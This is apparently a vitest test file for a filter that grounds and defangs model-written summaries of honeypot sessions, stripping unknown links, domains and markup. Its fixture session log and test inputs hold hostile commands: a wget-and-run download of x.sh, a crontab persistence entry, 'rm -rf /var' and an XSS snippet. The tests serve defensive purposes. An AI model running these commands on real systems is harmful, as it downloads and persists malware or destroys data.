import { setImmediate as nextTurn } from 'node:timers/promises'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { CHARACTERS_A_TURN } from '../../domain/turns.js'
import { groundedLines } from './grounded-lines.js'
import { groundedLine, objectionToShown, plainText } from './grounding.js'
import { heldIn, objectionTo } from './held-text.js'

const SESSION = [
  'Session of 203.0.113.7 on cowrie-1, 6 events, threat score 0.81.',
  'e1 2026-03-22T11:59:00Z login root / admin (success)',
  'e2 2026-03-22T11:59:01Z command: uname -a; cat /proc/cpuinfo | grep model',
  'e3 2026-03-22T11:59:02Z command: cd /tmp; wget http://198.51.100.20/bins/x.sh; chmod 777 x.sh; ./x.sh (success)',
  `e4 2026-03-22T11:59:03Z file download http://dropper.example.net:8080/a ${'ab'.repeat(32)} (success)`,
  'e5 2026-03-22T11:59:04Z command: (crontab -l; echo "* * * * * /tmp/x.sh") | crontab -',
  'e6 2026-03-22T11:59:05Z proxy request to tcp://[2001:db8::7]:443',
]
const HELD = await heldIn(SESSION.join('\n'))

/** What analysts are told every day. */
const ORDINARY_ACTIONS = [
  'Review /etc/passwd on the host.',
  'Review /etc/ssh/sshd_config and ~/.ssh/authorized_keys on real systems.',
  'e.g. check sshd_config',
  'Check hosts that run OpenSSH older than version 9.3.2.1.',
  'Update to version 2.4.1 or later.',
  'Check node.js services, i.e. those that run as root.',
  'Patch ASP.NET applications and nginx.conf as needed.',
  'Block 203.0.113.7 at the border.',
  'Block 203.0.113.7/32 and 198.51.100.20 at the firewall.',
  'Block 203.0.113.7, 198.51.100.20, and dropper.example.net.',
  'Block outbound traffic to dropper.example.net and 2001:db8::7.',
  'Add 203.0.113.7 to the blocklist.',
  'Search proxy logs for dropper.example.net and for downloads of x.sh.',
  `Search for the SHA-256 ${'ab'.repeat(32)} on other hosts.`,
  'Look for hosts that connected to 198.51.100.20 since 2026-03-22.',
  'Search for attempts to download from 198.51.100.20.',
  'Do not trust 203.0.113.7.',
  'Look for wget, curl and busybox in process lists.',
  'Watch for crontab changes and new systemd services.',
  'Disable root login over SSH, and require keys (PermitRootLogin no, PasswordAuthentication no).',
  'Set `PasswordAuthentication no` in sshd_config.',
  'Mount /tmp with the noexec option.',
  'Restrict outbound traffic (ports 22/tcp, 80/443, 8080) from servers.',
  'Rotate credentials for root/admin; then review sudo rights.',
  'Enable fail2ban or similar, and limit logins to 5 per minute (score > 0.5).',
  'Check cron jobs in /etc/cron.d/ and /var/spool/cron, and *.service files.',
  'Review T1059.004 and T1105 detections, and CVE-2021-44228 patches.',
  'Check auth.log, syslog and /var/log/secure for 203.0.113.7.',
  'Report 203.0.113.7 to its network (abuse contact), at 11:59:05 UTC.',
  'Find similar sessions; export their indicators.',
  'Use the U.S. CISA guidance, a.k.a. KEV, for priorities.',
  'Kill unknown processes and remove their files.',
  'Verify that bound services listen on 127.0.0.1 only.',
  'Isolate affected hosts and/or reinstall them from a known-good image.',
  'Run an antivirus scan on systems that contacted 198.51.100.20.',
  'Open a ticket and attach the session log for 203.0.113.7.',
  'Send the indicators (203.0.113.7, 198.51.100.20) to your threat intelligence platform.',
  '203.0.113.7 has no business need to connect to you; consider geo-blocking.',
  'Submit the sample to a sandbox such as VirusTotal or Cuckoo.',
  'Hunt for x.sh in /tmp, /var/tmp and /dev/shm; keep kernel >= 5.15 and OpenSSH >= 9.6p1.',
  'Escalate to Tier 2/3, and set fail2ban thresholds (maxretry = 3, bantime = 1h).',
  'Check mount points, service accounts, and history files (.bash_history).',
]

test.each(ORDINARY_ACTIONS)('an ordinary action survives unchanged: %s', (action) => {
  expect(objectionTo(action, HELD, 'action')).toBeNull()
  expect(plainText(action)).toBe(action.replaceAll('`', '').replaceAll('*', ''))
  expect(groundedLine(action, HELD)).not.toContain('left out')
})

test.each([
  'See evil*.*example*.*com/x for details.',
  'See evil`.`com for details.',
  'See evil~~.~~com for details.',
  'See [evil](x).com for details.',
  'See evil.<b>com</b> for details.',
  'See ev<b>il.c</b>om for details.',
  'Then run r<b></b>m -rf /var on it.',
  'Block 8.8.8.[8](y) at the firewall.',
  'Block 8.8._8_.8 at the firewall.',
  'Open htt<b>p</b>s://evil now.',
])('what becomes a reference or a command once its markup is gone is left out: %s', (line) => {
  expect(groundedLine(line, HELD)).toContain('left out')
})

/** What models say about sessions like this one. */
const ORDINARY_CLAIMS = [
  'The attacker logged in as root with the password admin.',
  'The attacker ran uname -a and read /proc/cpuinfo.',
  'They fetched x.sh from 198.51.100.20 with wget, made it executable (chmod 777 x.sh), and ran ./x.sh.',
  'A cron entry was installed with `crontab -`.',
  'They attempted to run the file and to connect to [2001:db8::7]:443.',
  'The session opened a tunnel to 2001:db8::7, port 443.',
  'The attacker used wget and chmod to stage a payload; the payload was then executed.',
  'The attacker tried to execute `uname -a` to identify the system.',
  'The attacker used "chmod 777 x.sh" and executed "./x.sh".',
  'The file came from dropper.example.net:8080.',
]
test.each(ORDINARY_CLAIMS)('an ordinary claim survives: %s', (claim) => {
  expect(objectionTo(claim, HELD, 'claim')).toBeNull()
  expect(groundedLine(claim, HELD)).not.toContain('left out')
})

test('links that the session holds are readable, and no link for any program', () => {
  const claim =
    'It fetched http://198.51.100.20/bins/x.sh, 198.51.100.20/bins/x.sh and http://dropper.example.net:8080/a.'
  expect(objectionTo(claim, HELD, 'claim')).toBeNull()
  expect(plainText(claim)).toBe(
    'It fetched hxxp[:]//198[.]51[.]100[.]20/bins/x.sh, 198[.]51[.]100[.]20/bins/x.sh and hxxp[:]//dropper[.]example[.]net:8080/a.',
  )
})

test.each(['//aa.com\u{2ec5e}', '//a-b.c^$.*+?{}|\\', '//-', '//\u{1f600}.com/x'])(
  'a host of any characters is text: %s',
  (link) => {
    expect(plainText(link)).not.toMatch(/[a-z]\.com/)
  },
)

test('what an analyst asks about may be in the answer', async () => {
  const line = '198.51.100.99 does not occur in this session.'
  expect(groundedLine(line, HELD)).toContain('left out')
  expect(groundedLine(line, await heldIn([...SESSION, 'Is 198.51.100.99 part of it?'].join('\n')))).toBe(line)
})

test('what a session holds is read in turns', async () => {
  const values = Array.from({ length: 500 }, (_, n) => `${'a.'.repeat(240)}x${n}.example`)
  let turns = 0
  let isDone = false
  const others = (async () => {
    for (; !isDone; turns += 1) await nextTurn()
  })()
  await heldIn(SESSION.join('\n'), values)
  isDone = true
  await others
  expect(turns).toBeGreaterThan(values.join('').length / CHARACTERS_A_TURN - 1)
})

test('a chat without any line break is kept and shown in part, and its link in no part', async () => {
  async function* pieces() {
    for (let n = 0; n < 10_000; n += 1) yield 'word '
    yield 'evil.exam'
    yield 'ple\nsee evil.exam'
    yield 'ple'
  }
  const lines: string[] = []
  const all = pieces()
  for await (const line of groundedLines(await all.next(), all, HELD)) lines.push(line)
  expect(lines).toEqual([
    expect.stringMatching(/^(?:word )+.*…$/),
    '[A line was left out: it names a domain that the session does not hold.]',
  ])
  expect(lines[0]).toHaveLength(600)
})

test.each([
  ['<<b>script>alert(1)</script>', /<\w/],
  ['[![a](b)](c)', /\]\(/],
  ['a `b` **c** _d_ ~~e~~', /[`*~_]/],
])('nothing of nested markup works: %s', (text, markup) => {
  expect(plainText(text)).not.toMatch(markup)
})

const WORDS =
  'Review the logs of affected hosts and look for new accounts, keys or jobs since yesterday'.split(' ')
const label = fc.stringMatching(/^[a-z][a-z0-9-]{0,10}[a-z0-9]$/)
const host = fc.tuple(label, fc.constantFrom('com', 'example', 'sh', 'zip', 'рф', 'xn--p1ai', 'net'))
const address = fc.ipV4().filter((ip) => !HELD.references.has(ip) && ip !== '127.0.0.1')
/** How an attacker may spell the same. */
const SPELLINGS: ReadonlyArray<(name: string) => string> = [
  (name) => name,
  (name) => `http://${name}/x`,
  (name) => `hxxps://${name}`,
  (name) => `${name}/path?q=1`,
  (name) => `www.${name}`,
  (name) => `[here](${name})`,
  (name) => `![x](//${name}/p.png)`,
  (name) => `<a href='http://${name}'>here</a>`,
  (name) => name.replaceAll('.', '[.]'),
  (name) => name.replaceAll('.', '&#46;'),
  (name) => name.replaceAll('.', '\uff0e'),
  (name) => [...name].join('\u200d'),
  (name) => name.normalize('NFKD').toUpperCase(),
  (name) => `mailto:a@${name}`,
  (name) => `\`${name}\``,
  (name) => `**${name}**`,
  (name) => `(${name}).`,
]
const named = fc.oneof(
  host.map(([name, ending]) => `${name}.${ending}`),
  address,
)

test('no name or address that the session does not hold is ever shown, however it is spelled and wherever it stands', () => {
  fc.assert(
    fc.property(
      named,
      fc.constantFrom(...SPELLINGS),
      fc.subarray(WORDS),
      fc.subarray(WORDS),
      fc.constantFrom('claim', 'action', 'chat'),
      (name, spell, before, after, writing) => {
        const text = [...before, spell(name), ...after].join(' ')
        expect([text, objectionTo(text, HELD, writing)]).toEqual([text, expect.any(String)])
      },
    ),
    { numRuns: 2_000 },
  )
}, 60_000)

test('whatever a model writes, what is shown has no link, markup or control that works', () => {
  const part = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 20 }),
    fc.constantFrom(
      'http://',
      '](',
      '![',
      '<img src=',
      '<',
      '>',
      '`',
      '&#60;',
      '&lt;',
      'javascript:',
      '\u202e',
      '[.]',
      '//',
      '\u0000',
    ),
    named,
  )
  fc.assert(
    fc.property(fc.array(part, { maxLength: 12 }), (parts) => {
      const shown = groundedLine(parts.join(''), HELD)
      expect(shown).not.toMatch(/[a-z]:\/\/|\]\(|<[a-z/!]|[\p{Cc}\p{Cf}]/iu)
      expect(shown.length).toBeLessThanOrEqual(600)
    }),
    { numRuns: 2_000 },
  )
}, 60_000)

test('sentences of ordinary words and of what the session holds survive', () => {
  const thing = fc.constantFrom(
    '203.0.113.7',
    '198.51.100.20',
    'dropper.example.net',
    '/etc/passwd',
    'sshd_config',
    'T1105',
  )
  fc.assert(
    fc.property(fc.subarray(WORDS), thing, fc.subarray(WORDS), (before, value, after) => {
      const text = [...before, value, ...after].join(' ')
      expect([text, objectionTo(text, HELD, 'action')]).toEqual([text, null])
    }),
  )
})

test('no more of a text is judged and shown than a thousand characters, once its characters are revealed', async () => {
  const held = await heldIn('nothing')
  const beyond = `${'\ufdfa'.repeat(60)} evil.example`
  expect(objectionToShown(beyond, held, 'claim')).toBeNull()
  expect(plainText(`${'<b>'.repeat(400)}evil.example`)).not.toContain('evil')
  expect(objectionToShown(`${'<b>'.repeat(200)}evil.example`, held, 'claim')).toBe('domain')
})
